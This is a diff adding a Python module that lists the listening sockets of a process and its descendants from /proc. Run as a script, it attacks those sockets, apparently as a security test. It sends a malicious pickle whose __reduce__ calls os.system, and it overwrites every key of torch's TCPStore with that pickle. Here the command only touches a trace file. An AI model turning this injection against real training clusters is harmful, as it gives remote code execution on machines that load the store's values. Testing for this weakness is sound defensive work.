@@ -1,0 +1,112 @@
+"""Listening sockets of a process and its descendants, and an attack on them.
+
+As a script it is the attacker: `listening_sockets.py TRACE SECONDS ADDRESS PORT …` connects to each
+port, as raw bytes and as a client of torch's TCPStore, and sets every key it finds to a pickle that
+creates the file TRACE when somebody loads it."""
+
+import base64
+import datetime
+import ipaddress
+import os
+import pickle
+import socket
+import subprocess
+import sys
+import threading
+import time
+from contextlib import suppress
+from pathlib import Path
+
+import psutil
+
+ATTACK_S = 7
+"""torchrun's agent, which once was attacked so, reads its store every five seconds."""
+LISTEN, UNCONNECTED = "0A", "07"
+"""States in /proc/net: of TCP, and of UDP that receives from anybody."""
+
+
+def family(process):
+    """A process and its descendants; nothing once it has ended."""
+    with suppress(psutil.NoSuchProcess):
+        return [process, *process.children(recursive=True)]
+    return []
+
+
+def listening(pid):
+    """(address, port) of the sockets of a process that strangers can reach; of those in a network
+    that has a loopback interface only, nothing."""
+    try:
+        links = [os.readlink(fd.path) for fd in os.scandir(f"/proc/{pid}/fd")]
+        held = {link[8:-1] for link in links if link.startswith("socket:[")}
+        if _is_private(pid):
+            return set()
+        tables = [
+            (Path(f"/proc/{pid}/net/{kind}{version}").read_text(), state)
+            for kind, state in (("tcp", LISTEN), ("udp", UNCONNECTED))
+            for version in ("", "6")
+        ]
+    except OSError:  # it has just ended
+        return set()
+    rows = [(row.split(), state) for text, state in tables for row in text.splitlines()[1:]]
+    return {_address(row[1]) for row, state in rows if row[9] in held and row[3] == state}
+
+
+def _is_private(pid):
+    if os.stat(f"/proc/{pid}/ns/net").st_ino == os.stat("/proc/self/ns/net").st_ino:
+        return False
+    interfaces = Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]
+    return [line.split(":")[0].strip() for line in interfaces] == ["lo"]
+
+
+def _address(text):
+    """Of `0100007F:1F90`: words of the host's byte order, and a port."""
+    address, port = text.split(":")
+    words = [bytes.fromhex(address[n : n + 8])[::-1] for n in range(0, len(address), 8)]
+    found = ipaddress.ip_address(b"".join(words))
+    return str(getattr(found, "ipv4_mapped", None) or found), int(port, 16)
+
+
+def is_loopback(address):
+    return ipaddress.ip_address(address).is_loopback
+
+
+def attack(trace, ports):
+    """Attack ports, (address, port), from a process of its own."""
+    words = [str(word) for pair in ports for word in pair]
+    subprocess.run([sys.executable, __file__, str(trace), str(ATTACK_S), *words], check=True)
+
+
+class Harm:
+    def __init__(self, trace):
+        self.trace = trace
+
+    def __reduce__(self):
+        return os.system, (f"touch '{self.trace}'",)
+
+
+def _send_bytes(payload, address, port):
+    for data in (payload, base64.b64encode(payload), b"\x00" * 64, b'{"id":0}\n'):
+        with suppress(OSError), socket.create_connection((address, port), 1) as connection:
+            connection.sendall(data)
+            time.sleep(0.2)
+
+
+def _set_keys(payload, address, port):
+    from torch.distributed import TCPStore
+
+    limit = datetime.timedelta(seconds=2)
+    with suppress(RuntimeError):  # not such a store
+        store = TCPStore(address, port, is_master=False, timeout=limit, wait_for_workers=False)
+        while True:
+            for key in store.list_keys():
+                store.set(key, base64.b64encode(payload))
+            time.sleep(0.1)
+
+
+if __name__ == "__main__":
+    payload = pickle.dumps(Harm(sys.argv[1]))
+    for address, port in zip(sys.argv[3::2], sys.argv[4::2], strict=True):
+        for way in (_send_bytes, _set_keys):
+            threading.Thread(target=way, args=(payload, address, int(port)), daemon=True).start()
+    time.sleep(float(sys.argv[2]))
+    os._exit(0)
